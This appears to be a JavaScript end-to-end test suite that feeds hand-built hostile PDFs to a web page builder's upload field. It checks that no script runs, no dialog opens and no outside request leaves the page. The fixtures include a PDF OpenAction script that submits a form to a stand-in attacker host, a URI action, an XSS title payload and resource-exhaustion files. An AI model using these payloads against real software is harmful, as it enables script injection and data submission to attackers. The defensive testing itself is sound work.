import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { deflateSync } from 'node:zlib';
import { openBrowser, openDemo, openPage } from '../e2e/demo-site.mjs';

/** A PDF of one page, by hand. */
function pdfOf({ box = '0 0 595 842', content = '0 0 m 595 842 l S', catalog = '', info = '', count = 1 } = {}) {
  const stream = deflateSync(content);
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents 4 0 R /Resources << >> >>`,
    [`<< /Length ${stream.length} /Filter /FlateDecode >>\nstream\n`, stream, '\nendstream'],
    `<< ${info} >>`,
  ];
  const chunks = [Buffer.from('%PDF-1.7\n')];
  const offsets = [];
  const size = () => chunks.reduce((sum, { length }) => sum + length, 0);
  for (const [index, object] of objects.entries()) {
    offsets.push(size());
    for (const part of [`${index + 1} 0 obj\n`, ...[object].flat(), '\nendobj\n']) chunks.push(Buffer.from(part));
  }
  const start = size();
  const places = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  chunks.push(
    Buffer.from(
      `xref\n0 6\n0000000000 65535 f \n${places}trailer\n<< /Size 6 /Root 1 0 R /Info 5 0 R >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(chunks);
}

const READ = /The fields are filled in/;
const UNREADABLE = /cannot be read as a PDF/;

describe('a PDF that a stranger made', () => {
  let browser;
  let demo;
  let folder;
  before(async () => {
    [browser, demo] = await Promise.all([openBrowser(), openDemo()]);
    folder = await mkdtemp(join(tmpdir(), 'brug-pdf-'));
  });
  after(async () => {
    await browser?.close();
    await demo?.close();
    await rm(folder, { recursive: true });
  });

  /** Gives a file to the builder, and says what came of it. */
  async function read(content) {
    const file = join(folder, 'paper.pdf');
    await writeFile(file, content);
    const { page, errors } = await openPage(browser);
    const dialogs = [];
    page.on('dialog', (dialog) => dialogs.push(dialog.message()) && dialog.dismiss());
    await page.goto(`${demo.url}builder/`, { waitUntil: 'load' });
    await page.waitForSelector('.chooser');
    await page.click('input[value=whitepaper-cta]');
    const input = await page.waitForSelector('.file input');
    const requests = [];
    page.on('request', (request) => requests.push(request.url()));
    // How long the page could do nothing else, at the most.
    await page.evaluate(() => {
      globalThis.longest = 0;
      let last = performance.now();
      setInterval(() => {
        globalThis.longest = Math.max(globalThis.longest, performance.now() - last);
        last = performance.now();
      }, 20);
    });
    await input.uploadFile(file);
    await page.waitForFunction(
      () => !/^$|Reading the PDF/.test(document.querySelector('builder-pdf-drop .hint').textContent.trim()),
      { timeout: 60_000 },
    );
    const result = await page.evaluate(() => ({
      said: document.querySelector('builder-pdf-drop .hint').textContent.trim(),
      longest: globalThis.longest,
      heading: document.querySelector('#heading').value,
      pages: document.querySelector('#pages').value,
      cover: document.querySelector('.cover-made img')?.naturalHeight,
      images: document.querySelectorAll('builder-page script, builder-page img:not([src^="./"], [src^="blob:"])')
        .length,
    }));
    await page.close();
    return { ...result, requests, dialogs, errors };
  }

  /** What is in it, and what is said of it. */
  const FILES = [
    ['one page', pdfOf(), READ],
    [
      'a script and a form to send, to begin with',
      pdfOf({
        catalog:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>',
      }),
      READ,
    ],
    ['an address to open', pdfOf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }), READ],
    ['no size', pdfOf({ box: '0 0 0 0' }), /./],
    ['a hundredth of a point', pdfOf({ box: '0 0 0.01 0.01' }), /./],
    ['a page like a thread', pdfOf({ box: '0 0 1 100000' }), READ],
    ['a page like a country', pdfOf({ box: '0 0 100000000 100000000' }), /./],
    ['two thousand million pages', pdfOf({ count: 2e9 }), /./],
    ['400 million blanks', pdfOf({ content: Buffer.alloc(400e6, 0x20) }), /./],
    ['a picture', Buffer.from('89504e470d0a1a0a', 'hex'), UNREADABLE],
    ['nothing', Buffer.alloc(0), UNREADABLE],
  ];
  for (const [name, content, said] of FILES) {
    it(`with ${name} runs nothing, asks nobody and is answered`, async () => {
      const result = await read(content);
      assert.match(result.said, said);
      assert.deepEqual(result.dialogs, []);
      assert.deepEqual(
        result.requests.filter((url) => !url.startsWith(demo.url) && !/^(blob|data):/.test(url)),
        [],
      );
      // A call to action without a document says so.
      assert.deepEqual(
        result.errors.filter((error) => !/is empty/.test(error)),
        [],
      );
      assert.ok(!result.cover || result.cover <= 2400, `a cover of ${result.cover} pixels`);
    });
  }

  it('has a title that is text', async () => {
    const { heading, images } = await read(
      pdfOf({ info: '/Title (<img src=x onerror=alert\\(1\\)><script>alert\\(1\\)</script>)' }),
    );
    assert.equal(heading, '<img src=x onerror=alert(1)><script>alert(1)</script>');
    assert.equal(images, 0);
  });

  const SLOW = [
    ['four million lines', pdfOf({ content: '0 0 m 9 9 l '.repeat(2e6) + 'S' })],
    ['sixty million bytes of nothing', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(60e6)])],
  ];
  for (const [name, content] of SLOW) {
    it(`with ${name} is given up, and the page goes on meanwhile`, async () => {
      const { said, longest } = await read(content);
      assert.match(said, /takes too long|cannot be read|fields are filled in/);
      assert.ok(longest < 3000, `the page stood still for ${Math.round(longest)} ms`);
    });
  }

  it('of more than 100 MB is refused before it is read', async () => {
    const { said } = await read(Buffer.alloc(101e6));
    assert.match(said, /larger than 100 MB/);
  });
});
